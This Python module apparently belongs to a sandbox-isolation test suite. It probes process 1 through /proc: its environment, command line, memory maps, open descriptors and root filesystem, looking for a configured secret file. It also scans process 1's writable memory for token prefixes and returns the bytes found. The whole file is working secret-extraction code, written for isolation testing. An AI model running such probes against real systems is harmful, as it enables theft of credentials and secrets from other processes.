# attack: Reads what /proc tells of process 1, its descriptors, its root and its memory.
# hurts: Shows what the process that made the walls can see.
# ends: returns
import os

from _raw import attempt, read_file, writable_maps


def attack(target):
    tried = [attempt(name, read_file, f"/proc/1/{name}", 65536) for name in ("environ", "cmdline", "maps", "mountinfo", "cgroup")]
    for base in ("root", "cwd", "task/1/root", "task/1/cwd"):
        tried += [
            attempt(base, read_file, f"/proc/1/{base}{target['secret_file']}"),
            attempt(base, os.listdir, f"/proc/1/{base}"),
        ]
    tried += [attempt("fd", read_file, f"/proc/1/fd/{number}") for number in range(16)]
    if os.getpid() == 1:
        return [*tried, "this process is process 1"]
    return [*tried, attempt("memory", found_in_memory, target["token_starts"].encode())]


def found_in_memory(start):
    found = []
    with open("/proc/1/mem", "rb", buffering=0) as memory:
        for first, last in writable_maps(1):
            memory.seek(first)
            data = memory.read(min(last - first, 1 << 24))
            place = data.find(start)
            if place >= 0:
                found.append(data[place : place + 64])
    return found
